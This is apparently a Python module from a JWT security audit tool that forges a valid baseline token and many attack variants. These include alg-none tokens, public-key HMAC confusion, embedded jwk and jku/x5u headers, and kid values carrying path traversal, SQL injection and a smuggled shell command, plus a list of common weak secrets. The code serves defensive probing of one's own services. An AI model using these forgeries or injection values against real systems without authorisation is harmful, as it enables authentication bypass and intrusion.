"""JWT forge: the valid baseline and every attack variant of the probe checklist.

Valid tokens are signed through PyJWT's algorithm objects. Attack tokens that PyJWT
refuses to make (``alg: none``, HMAC keyed with a PEM public key, empty keys, broken
encodings) are assembled by hand: ``base64url(header) . base64url(payload) . signature``.

Secrets and private keys come only from the environment variables a profile names
(:func:`load_keys`); a :class:`Forged` token's evidence carries its header and claims,
never the signature or the key.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import hmac
import json
import logging
import os
import secrets as _secrets
import time
import uuid
from dataclasses import dataclass, field
from functools import cached_property
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID
from jwt.algorithms import ECAlgorithm, RSAAlgorithm, get_default_algorithms

from ..errors import ConfigError
from .profile import Profile, render

log = logging.getLogger(__name__)

#: A small list of secrets seen in tutorials, templates and leaked configs (plus blank).
#: Only checked OFFLINE against the baseline token; never sent as a brute force.
COMMON_SECRETS: tuple[str, ...] = (
    "", "secret", "secret123", "secretkey", "secret_key", "secret-key", "SECRET_KEY", "password",
    "changeme", "change-me", "changeit", "jwt", "jwt_secret", "jwt-secret", "jwtsecret", "JWT_SECRET_KEY",
    "your-secret-key", "your_secret_key", "your-256-bit-secret", "your-secret-key-change-in-production",
    "your-super-secret-jwt-key-change-in-production", "mysecret", "my-secret", "supersecret",
    "super-secret", "s3cr3t", "key", "test", "testing", "admin", "default", "development",
    "dev-secret", "infra-mind", "infra_mind", "infra-mind-secret", "123456", "qwerty", "letmein", "token",
)
_HASH = {"256": hashlib.sha256, "384": hashlib.sha384, "512": hashlib.sha512}
_CURVE = {"ES256": ec.SECP256R1, "ES384": ec.SECP384R1, "ES512": ec.SECP521R1}
DROP = object()  #: claim override meaning "leave this claim out"


def b64url(data: bytes) -> str:
    """base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    """Inverse of :func:`b64url` (padding restored)."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _json(obj: Any) -> bytes:
    return json.dumps(obj, separators=(",", ":")).encode()


def split_token(token: str) -> tuple[dict[str, Any] | None, dict[str, Any] | None, str]:
    """Decode a compact JWS without verifying: (header, claims, signature_b64); None where undecodable."""
    parts = token.split(".")
    out: list[Any] = [None, None]
    for i in range(2):
        try:
            v = json.loads(b64url_decode(parts[i]))
            out[i] = v if isinstance(v, dict) else None
        except (IndexError, ValueError, UnicodeDecodeError):
            pass
    return out[0], out[1], parts[2] if len(parts) > 2 else ""


def hmac_sign(signing_input: bytes, key: bytes, alg: str = "HS256") -> bytes:
    """Raw HMAC signature with any key bytes (also PEM/DER public keys or b'')."""
    return hmac.new(key, signing_input, _HASH[alg[-3:]]).digest()


def assemble(header: dict[str, Any], claims: dict[str, Any], signature: bytes | str = b"") -> str:
    """Compact token from parts; ``signature`` raw bytes or an already-encoded string."""
    sig = signature if isinstance(signature, str) else b64url(signature)
    return f"{b64url(_json(header))}.{b64url(_json(claims))}.{sig}"


def assemble_hmac(header: dict[str, Any], claims: dict[str, Any], key: bytes) -> str:
    """Hand-built HS* token (the algorithm is taken from ``header['alg']``)."""
    signing_input = f"{b64url(_json(header))}.{b64url(_json(claims))}".encode()
    return f"{signing_input.decode()}.{b64url(hmac_sign(signing_input, key, header['alg']))}"


def sign_with(header: dict[str, Any], claims: dict[str, Any], key: Any) -> str:
    """Token signed with the algorithm named in ``header['alg']`` using PyJWT's primitives."""
    alg = header["alg"]
    if alg.startswith("HS"):
        return assemble_hmac(header, claims, key if isinstance(key, bytes) else str(key).encode())
    algo = get_default_algorithms()[alg]
    signing_input = f"{b64url(_json(header))}.{b64url(_json(claims))}".encode()
    return f"{signing_input.decode()}.{b64url(algo.sign(signing_input, key))}"


def weak_secret_matches(token: str, candidates: tuple[str, ...] = COMMON_SECRETS) -> list[int]:
    """Indexes of ``candidates`` whose HMAC verifies ``token`` (offline; HS* only).

    Returns indexes, not values, so a report never prints a secret.
    """
    header, _, sig = split_token(token)
    if not header or not str(header.get("alg", "")).startswith("HS") or str(header["alg"])[-3:] not in _HASH:
        return []
    signing_input = token.rsplit(".", 1)[0].encode()
    try:
        want = b64url_decode(sig)
    except ValueError:
        return []
    return [i for i, c in enumerate(candidates)
            if hmac.compare_digest(hmac_sign(signing_input, c.encode(), header["alg"]), want)]


@dataclass(frozen=True)
class Keys:
    """Key material for minting: the configured algorithm plus secret or key pair."""

    algorithm: str
    secret: bytes | None = None
    private_key: Any = None
    public_pem: bytes | None = None
    generated: bool = False

    @property
    def signing_key(self) -> Any:
        return self.secret if self.algorithm.startswith("HS") else self.private_key

    def secret_texts(self) -> list[str]:
        """Values that must never appear in output (for redaction)."""
        out = []
        if self.secret:
            out.append(self.secret.decode("utf-8", "replace"))
        if self.private_key is not None:
            pem = self.private_key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                                 serialization.NoEncryption()).decode()
            out.extend(line for line in pem.splitlines() if len(line) > 16 and "PRIVATE KEY" not in line)
        return out


def generate_secret() -> str:
    """A random 256-bit HS256 secret for a run against in-process reference targets."""
    return _secrets.token_urlsafe(32)


def _pem_from_env(value: str) -> bytes:
    return value.replace("\\n", "\n").encode()


def load_keys(profile: Profile, *, secret: str | None = None) -> Keys:
    """Read the profile's key material from the environment.

    Parameters
    ----------
    profile : Profile
        Names the algorithm and the env vars (``secret_env``, ``private_key_env``, ``public_key_env``).
    secret : str, optional
        Use this HS* secret instead of the env var (in-process reference targets only).

    Returns
    -------
    Keys

    Raises
    ------
    ConfigError
        One line when a named variable is unset or holds an unusable key.
    """
    where = f"profile {profile.source or profile.name}"

    def env(key: str, required: bool) -> str | None:
        name = getattr(profile, key)
        value = os.environ.get(name) if name else None
        if required and not value:
            raise ConfigError(f"{where}: {key} names environment variable {name or '(none)'}, which is not set")
        return value or None

    alg = profile.algorithm
    public_pem = None
    pub_text = env("public_key_env", False)
    if pub_text:
        try:
            pub = serialization.load_pem_public_key(_pem_from_env(pub_text))
        except ValueError:
            raise ConfigError(f"{where}: {profile.public_key_env} does not hold a PEM public key") from None
        public_pem = pub.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    if alg.startswith("HS"):
        value = secret if secret is not None else env("secret_env", True)
        return Keys(alg, secret=value.encode(), public_pem=public_pem, generated=secret is not None)
    text = env("private_key_env", True)
    try:
        key = serialization.load_pem_private_key(_pem_from_env(text), password=None)
    except (ValueError, TypeError):
        raise ConfigError(f"{where}: {profile.private_key_env} does not hold an unencrypted PEM private key") from None
    if alg.startswith(("RS", "PS")) and not isinstance(key, rsa.RSAPrivateKey):
        raise ConfigError(f"{where}: {alg} needs an RSA private key in {profile.private_key_env}")
    if alg.startswith("ES") and not isinstance(key, ec.EllipticCurvePrivateKey):
        raise ConfigError(f"{where}: {alg} needs an EC private key in {profile.private_key_env}")
    if public_pem is None:
        public_pem = key.public_key().public_bytes(serialization.Encoding.PEM,
                                                   serialization.PublicFormat.SubjectPublicKeyInfo)
    return Keys(alg, private_key=key, public_pem=public_pem)


def _apply(base: dict[str, Any], overrides: dict[str, Any]) -> dict[str, Any]:
    """``base`` updated with ``overrides``; a value of :data:`DROP` removes the key."""
    for k, v in overrides.items():
        if v is DROP:
            base.pop(k, None)
        else:
            base[k] = v
    return base


@dataclass(frozen=True)
class Forged:
    """One minted token with what it claims to be.

    ``expect`` is the secure behaviour: ``"accept"`` or ``"reject"``. ``header`` and
    ``claims`` are what the token decodes to (None where deliberately undecodable).
    """

    label: str
    token: str
    header: dict[str, Any] | None
    claims: dict[str, Any] | None
    note: str = ""
    expect: str = "reject"
    meta: dict[str, Any] = field(default_factory=dict)

    def evidence(self) -> dict[str, Any]:
        """What was sent, without the signature: label, header, claims, how it was signed."""
        return {"token": self.label, "header": self.header, "claims": self.claims, "signed": self.note}


class Forger:
    """Mints the baseline and the attack variants for one profile and key set.

    Parameters
    ----------
    profile : Profile
    keys : Keys
    now : float, optional
        Clock for ``iat``/``exp`` (tests pin it).
    """

    def __init__(self, profile: Profile, keys: Keys, now: float | None = None) -> None:
        self.profile = profile
        self.keys = keys
        self._now = now

    # --- building blocks -------------------------------------------------------
    @property
    def now(self) -> int:
        return int(self._now if self._now is not None else time.time())

    @property
    def alg(self) -> str:
        return self.keys.algorithm

    def header(self, **extra: Any) -> dict[str, Any]:
        h: dict[str, Any] = {"alg": self.alg, "typ": self.profile.typ or "JWT"}
        if self.profile.kid:
            h["kid"] = self.profile.kid
        return _apply(h, extra)

    def claims(self, sub: str | None = None, **overrides: Any) -> dict[str, Any]:
        """Profile claims (``{sub}`` rendered) + sub, iat, exp, jti; ``DROP`` removes a claim."""
        sub = sub or self.profile.subject
        now = self.now
        c: dict[str, Any] = dict(render(self.profile.claims, sub=sub))
        c.update({"sub": sub, "iat": now, "exp": now + self.profile.token_lifetime_s,
                  "jti": uuid.uuid4().hex})
        return _apply(c, overrides)

    def sign(self, header: dict[str, Any], claims: dict[str, Any]) -> str:
        return sign_with(header, claims, self.keys.signing_key)

    def make(self, label: str, claims: dict[str, Any] | None = None, header: dict[str, Any] | None = None,
             expect: str = "reject", note: str = "") -> Forged:
        """A token signed correctly with the configured key (validity decided by its claims)."""
        h = header or self.header()
        c = claims if claims is not None else self.claims()
        return Forged(label, self.sign(h, c), h, c, note or f"{h['alg']} with the configured key", expect)

    @cached_property
    def attacker_rsa(self) -> rsa.RSAPrivateKey:
        return rsa.generate_private_key(public_exponent=65537, key_size=2048)

    @cached_property
    def attacker_ec(self) -> ec.EllipticCurvePrivateKey:
        return ec.generate_private_key(ec.SECP256R1())

    def _attacker_key(self, alg: str) -> Any:
        if alg.startswith("HS"):
            return os.urandom(32)
        if alg.startswith(("RS", "PS")):
            return self.attacker_rsa
        return self.attacker_ec if alg == "ES256" else ec.generate_private_key(_CURVE[alg]())

    # --- probe 1 / 21 / 16 -----------------------------------------------------
    def baseline(self, sub: str | None = None) -> Forged:
        """Valid token for ``sub`` (default: the profile's subject)."""
        return self.make("baseline", self.claims(sub), expect="accept")

    def short_lived(self, seconds: int) -> Forged:
        """Valid token expiring ``seconds`` from now (probe 14)."""
        return self.make(f"exp in {seconds} s", self.claims(exp=self.now + seconds), expect="accept")

    # --- probe 3 ---------------------------------------------------------------
    def malformed(self) -> list[Forged]:
        c = self.claims()
        return [
            Forged("garbage string", "ws-audit-garbage-token", None, None, "not a JWT"),
            Forged("2 segments", f"{b64url(_json(self.header()))}.{b64url(_json(c))}", self.header(), c,
                   "no signature segment"),
            Forged("bad base64", "!!!.@@@.###", None, None, "segments are not base64url"),
            Forged("non-JSON header", f"{b64url(b'not json')}.{b64url(_json(c))}.{b64url(os.urandom(32))}",
                   None, c, "header decodes to non-JSON"),
        ]

    # --- probe 4 ---------------------------------------------------------------
    def tampered(self) -> list[Forged]:
        base = self.baseline()
        _, _, sig = split_token(base.token)
        c = dict(base.claims or {}, sub=self.profile.victim_subject)
        head = base.token.split(".")[0]
        return [
            Forged("payload sub→victim, original signature", f"{head}.{b64url(_json(c))}.{sig}", base.header, c,
                   "baseline signature over a different payload"),
            Forged("signature truncated by 4 chars", base.token[:-4], base.header, base.claims,
                   "baseline with the last 4 signature characters removed"),
        ]

    # --- probe 5 ---------------------------------------------------------------
    def alg_none(self) -> list[Forged]:
        base = self.baseline()
        _, _, sig = split_token(base.token)
        out = []
        for spelling in ("none", "None", "NONE", "nOnE"):
            h = {"alg": spelling, "typ": "JWT"}
            out.append(Forged(f"alg {spelling}, empty signature", assemble(h, base.claims or {}, b""), h,
                              base.claims, "unsigned"))
            out.append(Forged(f"alg {spelling}, old signature", assemble(h, base.claims or {}, sig), h,
                              base.claims, "unsigned header with the baseline's signature"))
        return out

    # --- probe 6 ---------------------------------------------------------------
    def null_signature(self) -> list[Forged]:
        h, c = self.header(alg="HS256"), self.claims()
        return [
            Forged("HS256, empty signature", assemble(h, c, b""), h, c, "empty signature"),
            Forged("HS256, all-zero signature", assemble(h, c, bytes(32)), h, c, "32 zero bytes"),
        ]

    # --- probe 7 ---------------------------------------------------------------
    def wrong_key(self) -> list[Forged]:
        h, c = self.header(), self.claims()
        return [Forged("same alg and kid, wrong key", sign_with(h, c, self._attacker_key(self.alg)), h, c,
                       f"{self.alg} with a random key")]

    # --- probe 8 ---------------------------------------------------------------
    def confusion(self) -> list[Forged]:
        """HS256 keyed with the server's public key (PEM, PEM ± trailing newline, DER)."""
        pem = self.keys.public_pem
        if not pem:
            return []
        pub = serialization.load_pem_public_key(pem)
        der = pub.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
        stripped = pem.rstrip(b"\n")
        variants = {"PEM with trailing newline": stripped + b"\n", "PEM without trailing newline": stripped,
                    "DER": der}
        h, c = self.header(alg="HS256"), self.claims()
        return [Forged(f"HS256 keyed with public key ({name})", assemble_hmac(h, c, key), h, c,
                       f"HMAC-SHA256 over the public key bytes ({name})", meta={"hmac_key": name})
                for name, key in variants.items()]

    def disallowed_algs(self) -> list[Forged]:
        """Correctly signed tokens with algorithms outside the pinned one."""
        out = []
        c = self.claims()
        family = self.alg[:2]
        for alg in ("HS256", "HS384", "HS512", "RS256", "RS512", "PS256", "ES256", "ES384"):
            if alg == self.alg:
                continue
            h = self.header(alg=alg)
            same_hmac = family == "HS" and alg.startswith("HS")
            same_rsa = family in ("RS", "PS") and alg[:2] in ("RS", "PS")
            if same_hmac or same_rsa:
                key, note = self.keys.signing_key, f"{alg} with the configured key"
            else:
                if alg.startswith("HS"):
                    continue  # HS with the public key is the confusion case; with a random key it is wrong_key
                key, note = self._attacker_key(alg), f"{alg} with an attacker key"
            out.append(Forged(f"alg {alg}", sign_with(h, c, key), h, c, note))
        return out

    # --- probe 9 ---------------------------------------------------------------
    def empty_secret(self) -> list[Forged]:
        h, c = self.header(alg="HS256"), self.claims()
        return [Forged('HS256 signed with ""', assemble_hmac(h, c, b""), h, c, "HMAC with an empty key")]

    # --- probe 10 --------------------------------------------------------------
    def jwk_header(self) -> list[Forged]:
        c = self.claims()
        rsa_jwk = RSAAlgorithm.to_jwk(self.attacker_rsa.public_key(), as_dict=True)
        ec_jwk = ECAlgorithm.to_jwk(self.attacker_ec.public_key(), as_dict=True)
        h1 = {"alg": "RS256", "typ": "JWT", "jwk": dict(rsa_jwk, kid="ws-audit-jwk")}
        h2 = {"alg": "ES256", "typ": "JWT", "jwk": dict(ec_jwk, kid="ws-audit-jwk")}
        return [Forged("embedded RSA jwk", sign_with(h1, c, self.attacker_rsa), h1, c, "RS256 with the embedded key"),
                Forged("embedded EC jwk", sign_with(h2, c, self.attacker_ec), h2, c, "ES256 with the embedded key")]

    # --- probe 11 --------------------------------------------------------------
    def jwks_document(self) -> dict[str, Any]:
        """JWKS the local listener serves for ``jku``."""
        return {"keys": [dict(RSAAlgorithm.to_jwk(self.attacker_rsa.public_key(), as_dict=True),
                              kid="ws-audit-jku", use="sig", alg="RS256")]}

    def x509_pem(self) -> bytes:
        """Self-signed certificate of the attacker key the listener serves for ``x5u``."""
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "ws-audit attacker")])
        now = dt.datetime.now(dt.timezone.utc)
        cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
                .public_key(self.attacker_rsa.public_key()).serial_number(x509.random_serial_number())
                .not_valid_before(now - dt.timedelta(minutes=5)).not_valid_after(now + dt.timedelta(days=1))
                .sign(self.attacker_rsa, hashes.SHA256()))
        return cert.public_bytes(serialization.Encoding.PEM)

    def jku_x5u(self, base_url: str) -> list[Forged]:
        c = self.claims()
        h1 = {"alg": "RS256", "typ": "JWT", "kid": "ws-audit-jku", "jku": f"{base_url}/jwks.json"}
        h2 = {"alg": "RS256", "typ": "JWT", "x5u": f"{base_url}/cert.pem"}
        return [Forged("jku → local listener", sign_with(h1, c, self.attacker_rsa), h1, c, "RS256, attacker key"),
                Forged("x5u → local listener", sign_with(h2, c, self.attacker_rsa), h2, c, "RS256, attacker key")]

    # --- probe 12 --------------------------------------------------------------
    def kid_injection(self) -> list[Forged]:
        c = self.claims()
        cases = [
            ("kid path traversal to /dev/null", "../../../../../../../dev/null", b"", "HS256 with an empty key"),
            ("kid SQL injection", "x' UNION SELECT 'ws-audit-key' -- ", b"ws-audit-key",
             "HS256 with the key the injection selects"),
            ("kid command injection", "ws-audit-kid; sleep 2 #", os.urandom(32), "HS256 with a random key"),
            ("unknown kid", f"ws-audit-unknown-{uuid.uuid4().hex[:8]}", os.urandom(32), "HS256 with a random key"),
        ]
        out = []
        for label, kid, key, note in cases:
            h = {"alg": "HS256", "typ": "JWT", "kid": kid}
            out.append(Forged(label, assemble_hmac(h, c, key), h, c, note))
        return out

    # --- probe 13 --------------------------------------------------------------
    def exp_nbf(self) -> list[Forged]:
        now, lw = self.now, int(self.profile.leeway_s)
        out = [self.make("exp past (beyond leeway)", self.claims(iat=now - lw - 600, exp=now - lw - 120))]
        if lw >= 2:
            out.append(self.make("exp past within leeway", self.claims(exp=now - lw // 2), expect="accept"))
        out.append(self.make("exp missing", self.claims(exp=DROP)))
        out.append(self.make("nbf in the future", self.claims(nbf=now + lw + 600)))
        return out

    # --- probe 15 --------------------------------------------------------------
    def iss_aud_type(self) -> list[Forged]:
        out = []
        for claim in ("iss", "aud", "token_type"):
            if claim in self.profile.claims:
                out.append(self.make(f"wrong {claim}", self.claims(**{claim: f"ws-audit-wrong-{claim}"})))
                out.append(self.make(f"missing {claim}", self.claims(**{claim: DROP})))
        if self.profile.typ:
            out.append(self.make("wrong typ header", header=self.header(typ="ws-audit-wrong+jwt")))
        return out
